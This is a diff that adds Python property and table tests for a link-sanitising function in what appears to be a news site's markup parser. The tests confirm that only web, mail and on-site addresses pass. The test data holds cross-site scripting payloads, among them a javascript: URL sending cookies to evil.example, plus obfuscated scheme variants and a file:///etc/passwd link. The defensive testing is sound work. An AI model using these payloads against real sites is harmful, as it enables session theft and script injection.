@@ -54,3 +54,71 @@ block = st.one_of(
 @given(st.lists(block, max_size=6))
 def test_round_trip_property(blocks):
     assert body.parse(body.serialize(blocks)) == blocks
+
+
+# --- The URL policy: http(s) with a host, mailto:, or a path on this site ----------------------
+
+# (address, what readers get): shared with the browser test of entry_preview.js, which must agree.
+URL_CASES = [
+    ("https://example.com/story?id=1#top", "https://example.com/story?id=1#top"),
+    ("http://example.com", "http://example.com"),
+    ("HTTPS://EXAMPLE.COM/", "HTTPS://EXAMPLE.COM/"),
+    ("mailto:desk@example.com", "mailto:desk@example.com"),
+    ("/war-in-ukraine/entries/12/", "/war-in-ukraine/entries/12/"),
+    ("/", "/"),
+    ("javascript:fetch(`//evil.example/${document.cookie}`)", ""),
+    ("JavaScript:alert(1)", ""),
+    ("java\tscript:alert(1)", ""),
+    ("\x01javascript:alert(1)", ""),
+    (" javascript:alert(1)", ""),
+    ("javascript&colon;alert(1)", ""),
+    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ""),
+    ("vbscript:msgbox(1)", ""),
+    ("file:///etc/passwd", ""),
+    ("//evil.example/path", ""),
+    ("/\\evil.example/path", ""),
+    ("\\\\evil.example", ""),
+    ("https:evil.example", ""),
+    ("https:///evil.example", ""),
+    ("https://", ""),
+    ("mailto:", ""),
+    ("relative/path", ""),
+    ("#section", ""),
+    ("?q=1", ""),
+    ("", ""),
+]
+
+
+def test_safe_url_allows_web_mail_and_site_addresses_only():
+    assert [(url, body.safe_url(url)) for url, _ in URL_CASES] == URL_CASES
+
+
+# Characters a browser's URL parser removes or rewrites before it reads the scheme.
+url_text = st.text(
+    alphabet=st.sampled_from([*"javscriptJAVSCRIPT:/\\ .%&#;", "\t", "\n", "\x00", "\x7f"]),
+    max_size=16,
+)
+
+
+@given(prefix=url_text, rest=st.text(max_size=8))
+def test_safe_url_never_lets_another_scheme_through(prefix, rest):
+    url = prefix + rest
+    shown = body.safe_url(url)
+    assert shown in ("", url)
+    if shown:
+        # What a browser would read: C0 controls, space, DEL dropped; backslash as slash.
+        read = "".join(ch for ch in shown if ch > " " and ch != "\x7f").replace("\\", "/")
+        scheme = read.partition(":")[0].lower() if ":" in read.partition("/")[0] else ""
+        assert scheme in ("", "http", "https", "mailto")
+        assert not read.startswith("//")
+
+
+def test_refused_addresses_are_dropped_from_blocks_like_lost_links():
+    blocks = body.parse("[Safe](https://example.com/)\n\n[Bad](javascript:alert)\n\n[Lost]()")
+    assert body.with_safe_urls(blocks) == [
+        {"type": "link", "text": "Safe", "url": "https://example.com/"},
+        {"type": "link", "text": "Bad"},
+        {"type": "link", "text": "Lost"},
+    ]
+    # The body itself keeps what the editor typed, so it still round-trips exactly.
+    assert blocks[1] == {"type": "link", "text": "Bad", "url": "javascript:alert"}
